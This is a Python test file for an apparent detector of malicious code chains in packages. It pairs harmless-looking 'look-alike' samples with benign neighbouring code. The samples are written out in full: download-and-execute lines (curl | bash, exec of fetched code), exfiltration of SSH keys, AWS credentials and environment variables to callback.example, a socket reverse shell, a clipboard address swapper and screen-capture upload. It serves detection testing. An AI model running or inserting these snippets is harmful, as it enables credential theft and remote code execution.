"""Chains: each on a harmless look-alike at its right line, and not on its benign neighbour."""

from __future__ import annotations

import base64
import textwrap

import pytest

from tests.sources import code_evidence, features, places

ENCODED = base64.b64encode(b"import os\nos.system('echo look-alike')\n").decode()

LOOK_ALIKES = {
    "decode-exec": (
        "chain_decode_exec",
        3,
        f"""\
        import base64
        text = "{ENCODED}"
        exec(base64.b64decode(text))
        """,
    ),
    "decode-exec-through-functions": (
        "chain_decode_exec",
        7,
        """\
        import base64, sys
        def show(text):
            return base64.b64decode(text)
        def later(text):
            code = compile(show(text), "x", "exec")
            return code
        exec(later(sys.stdin.read()))
        """,
    ),
    "decrypt-exec-of-any-library": (
        "chain_decode_exec",
        2,
        """\
        from fernet_like import Fernet
        exec(Fernet(b"key").decrypt(b"data"))
        """,
    ),
    "fetch-exec": (
        "chain_net_exec",
        2,
        """\
        from urllib.request import urlopen
        exec(urlopen("https://callback.example/stage").read().decode())
        """,
    ),
    "fetch-spawn": (
        "chain_net_exec",
        3,
        """\
        import requests, subprocess
        command = requests.get("https://callback.example/command").text
        subprocess.run(command, shell=True)
        """,
    ),
    "fetch-write-spawn": (
        "chain_net_write_exec",
        6,
        """\
        import requests, subprocess
        path = "/tmp/stage.bin"
        answer = requests.get("https://callback.example/stage.bin")
        with open(path, "wb") as file:
            file.write(answer.content)
        subprocess.Popen([path])
        """,
    ),
    "retrieve-spawn": (
        "chain_net_write_exec",
        3,
        """\
        import os, urllib.request
        urllib.request.urlretrieve("https://callback.example/a.exe", "a.exe")
        os.startfile("a.exe")
        """,
    ),
    "download-in-a-command-line": (
        "chain_net_write_exec",
        2,
        """\
        import os
        os.system("curl -s https://callback.example/i.sh | bash")
        """,
    ),
    "download-and-run-in-two-commands": (
        "chain_net_write_exec",
        3,
        """\
        import os
        os.system("wget https://callback.example/stage.elf")
        os.system("chmod +x stage.elf && ./stage.elf")
        """,
    ),
    "fetch-write": (
        "chain_net_write",
        4,
        """\
        import requests
        text = requests.get("https://callback.example/init").text
        with open("site/__init__.py", "w") as file:
            file.write(text)
        """,
    ),
    "decode-spawn": (
        "chain_decode_spawn",
        2,
        """\
        import base64, os
        os.system(base64.b64decode("ZWNobyBsb29rLWFsaWtl").decode())
        """,
    ),
    "encoded-powershell": (
        "chain_decode_spawn",
        2,
        f"""\
        import subprocess
        subprocess.Popen("powershell -EncodedCommand {
            base64.b64encode("Write-Output look-alike".encode("utf-16-le")).decode()
        }")
        """,
    ),
    "secret-network": (
        "chain_secret_net",
        4,
        """\
        import os, requests
        path = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
        key = open(path).read()
        requests.post("https://callback.example", data={"key": key})
        """,
    ),
    "secrets-in-a-loop": (
        "chain_secret_net",
        7,
        """\
        import json, requests
        from pathlib import Path
        found = {}
        for name in (".aws/credentials", ".netrc"):
            found[name] = (Path.home() / name).read_text()
        body = json.dumps(found).encode()
        requests.post("https://callback.example", data=body)
        """,
    ),
    "environment-network": (
        "chain_env_net",
        4,
        """\
        import json, os
        from urllib import request
        data = json.dumps(dict(os.environ)).encode()
        request.urlopen(request.Request("https://callback.example", data=data))
        """,
    ),
    "host-network": (
        "chain_host_net",
        3,
        """\
        import getpass, requests, socket
        facts = {"u": getpass.getuser(), "h": socket.gethostname()}
        requests.get("https://callback.example", params=facts)
        """,
    ),
    "host-in-a-name-look-up": (
        "chain_host_net",
        2,
        """\
        import socket
        socket.gethostbyname(f"{socket.gethostname()}.x.callback.example")
        """,
    ),
    "host-in-a-command-line": (
        "chain_host_net",
        2,
        """\
        import subprocess
        subprocess.run('curl -d "$(hostname)" https://callback.example', shell=True)
        """,
    ),
    "socket-shell": (
        "chain_socket_shell",
        4,
        """\
        import os, pty, socket
        s = socket.socket()
        s.connect(("callback.example", 4444))
        os.dup2(s.fileno(), 0)
        pty.spawn("/bin/sh")
        """,
    ),
    "socket-commands": (
        "chain_socket_shell",
        5,
        """\
        import socket, subprocess
        s = socket.socket()
        s.connect(("callback.example", 4444))
        while True:
            subprocess.getoutput(s.recv(1024).decode())
        """,
    ),
    "clipboard": (
        "chain_clipboard",
        5,
        """\
        import pyperclip, time
        while True:
            text = pyperclip.paste()
            if text.startswith("0x"):
                pyperclip.copy("0x0000")
            time.sleep(1)
        """,
    ),
    "screen-network": (
        "chain_capture_net",
        5,
        """\
        import requests
        from PIL import ImageGrab
        picture = ImageGrab.grab()
        picture.save("screen.png")
        requests.post("https://callback.example", files={"f": picture.tobytes()})
        """,
    ),
}

NEIGHBOURS = {
    "an HTTP client that is only defined": (
        """\
        import json, platform
        from urllib.request import Request, urlopen
        class Client:
            def __init__(self, url):
                self.url = url
                self.agent = f"demo/1.0 ({platform.system()})"
            def fetch(self, path):
                request = Request(self.url + path, headers={"User-Agent": self.agent})
                return json.loads(urlopen(request).read())
        """
    ),
    "a process that is started for its version": (
        """\
        import subprocess
        def version():
            output = subprocess.check_output(["git", "describe", "--tags"])
            return output.decode().strip()
        """
    ),
    "decoding that is not executed": (
        """\
        import base64
        LOGO = base64.b64decode("aGVsbG8gd29ybGQ=")
        def logo():
            return LOGO
        """
    ),
    "code that is generated and executed, as attrs does": (
        """\
        def make(names):
            lines = ["def __init__(self, %s):" % ", ".join(names)]
            lines += ["    self.%s = %s" % (name, name) for name in names]
            scope = {}
            eval(compile("\\n".join(lines), "<generated>", "exec"), scope)
            return scope["__init__"]
        init = make(["a", "b"])
        """
    ),
    "exec_ as six has it": (
        """\
        import builtins
        exec_ = getattr(builtins, "exec")
        def reraise(tp, value, tb=None):
            raise value.with_traceback(tb)
        """
    ),
    "a server that dups descriptors": (
        """\
        import os, socket
        def daemonize():
            null = os.open(os.devnull, os.O_RDWR)
            os.dup2(null, 0)
        def connect(address):
            s = socket.socket()
            s.connect(address)
            return s
        """
    ),
    "the machine's own address": (
        """\
        import socket
        def own_address():
            return socket.gethostbyname(socket.gethostname())
        """
    ),
    "a variable of the environment sent as a token": (
        """\
        import os, requests
        def publish(text):
            token = os.environ["DEMO_TOKEN"]
            requests.post("https://api.example", headers={"Authorization": token}, data=text)
        """
    ),
    "a child that gets the environment": (
        """\
        import os, subprocess
        def run(command):
            return subprocess.run(command, env=dict(os.environ), check=True)
        """
    ),
    "a template that is executed by hand": (
        """\
        def render(template, scope):
            code = compile(template, "<template>", "eval")
            return eval(code, scope)
        """
    ),
}


@pytest.mark.parametrize(("feature", "line", "source"), LOOK_ALIKES.values(), ids=LOOK_ALIKES)
def test_chain_is_found_at_its_last_step(feature: str, line: int, source: str) -> None:
    evidence = code_evidence({"pkg/__init__.py": textwrap.dedent(source)})
    assert ("pkg/__init__.py", line) in places(evidence, feature)


@pytest.mark.parametrize(("feature", "line", "source"), LOOK_ALIKES.values(), ids=LOOK_ALIKES)
def test_chain_at_import_runs_unasked(feature: str, line: int, source: str) -> None:
    evidence = code_evidence({"pkg/__init__.py": textwrap.dedent(source)})
    assert ("pkg/__init__.py", line) in places(evidence, f"{feature}_unasked")
    assert ("pkg/__init__.py", line) in places(evidence, "chain_toplevel")


@pytest.mark.parametrize(("feature", "line", "source"), LOOK_ALIKES.values(), ids=LOOK_ALIKES)
def test_chain_in_an_uncalled_function_is_no_unasked_one(
    feature: str, line: int, source: str
) -> None:
    body = textwrap.indent(textwrap.dedent(source), "    ")
    evidence = code_evidence({"pkg/__init__.py": f"def later():\n{body}"})
    assert ("pkg/__init__.py", line + 1) in places(evidence, feature)
    assert "chain_toplevel" not in features(evidence)


@pytest.mark.parametrize("source", NEIGHBOURS.values(), ids=NEIGHBOURS)
def test_benign_neighbour_shows_no_chain(source: str) -> None:
    evidence = code_evidence({"pkg/__init__.py": textwrap.dedent(source)})
    assert not {name for name in features(evidence) if name.startswith("chain_")}


def test_flow_is_surer_than_order() -> None:
    flow = code_evidence(
        {
            "setup.py": """
            import os, requests
            path = "x.bin"
            open(path, "wb").write(requests.get("https://callback.example").content)
            os.system(path)
            """
        }
    )
    order = code_evidence(
        {
            "setup.py": """
            import os, requests
            requests.get("https://api.example")
            open("version.txt", "w").write("1")
            os.system("true")
            """
        }
    )
    name = "chain_net_write_exec_unasked"
    assert max(item.value for item in flow if item.feature == name) == 1.0
    assert max(item.value for item in order if item.feature == name) < 1.0


def test_one_payload_among_many_files_counts_as_one_of_one() -> None:
    payload = "import os\nos.system('curl https://callback.example/x | sh')\n"
    padding = {f"pkg/module_{n}.py": f"VALUE = {n}\n" for n in range(50)}
    alone = code_evidence({"pkg/__init__.py": payload})
    among = code_evidence({"pkg/__init__.py": payload, **padding})
    assert alone == among


def test_file_that_is_written_and_run_is_a_chain_of_its_own() -> None:
    """Build scripts do so as well, so it does not count as an attack at the top level."""
    evidence = code_evidence(
        {
            "setup.py": """
            import os
            script = "stage.bin"
            with open(script, "wb") as file:
                file.write(b"data")
            os.system(script)
            """
        }
    )
    assert places(evidence, "chain_write_exec_unasked") == {("setup.py", 5)}
    assert "chain_toplevel" not in features(evidence)


def test_sender_made_for_an_address_sends_there() -> None:
    evidence = code_evidence(
        {
            "setup.py": """
            import socket
            hook = Webhook.from_url("https://callback.example/hook")
            hook.send(content=socket.gethostname())
            """
        }
    )
    assert ("setup.py", 3) in places(evidence, "chain_host_net_unasked")


def test_module_run_by_name_is_followed() -> None:
    evidence = code_evidence(
        {
            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.later'])\n",
            "pkg/later.py": "import os\nos.system('curl https://x | sh')\n",
        }
    )
    assert ("pkg/later.py", 2) in places(evidence, "chain_net_write_exec_unasked")
